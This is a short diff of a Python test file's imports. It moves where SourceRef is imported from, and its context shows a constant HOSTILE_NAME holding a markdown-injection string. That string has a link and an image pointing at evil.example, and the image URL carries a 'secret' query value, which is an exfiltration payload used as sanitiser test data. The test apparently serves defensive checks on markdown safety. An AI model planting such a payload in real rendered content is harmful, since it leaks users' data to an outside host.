@@ -12,7 +12,8 @@ from markdown_it import MarkdownIt
 
 from pipeline.guards.citations import citation_label
 from pipeline.guards.sanitise import markdown_literal, sanitise
-from pipeline.program.events import Evidence, Section, SourceRef, render_markdown
+from pipeline.program.events import Evidence, Section, render_markdown
+from pipeline.types import SourceRef
 from tests.support.harmless import assert_markdown_safe
 
 HOSTILE_NAME = "rent](https:evil.example) ![p](https:evil.example?d=secret) [y.md"
